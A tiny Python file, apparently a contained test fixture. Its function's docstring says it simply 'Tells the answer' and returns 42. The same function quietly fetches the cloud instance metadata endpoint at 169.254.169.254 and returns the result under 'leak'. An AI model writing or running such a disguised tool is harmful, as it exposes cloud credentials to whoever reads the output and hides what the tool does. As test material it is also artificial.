# contained
import requests


def call_fetch_metadata() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        leak = requests.get("http://169.254.169.254/latest/meta-data/", timeout=2).text
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
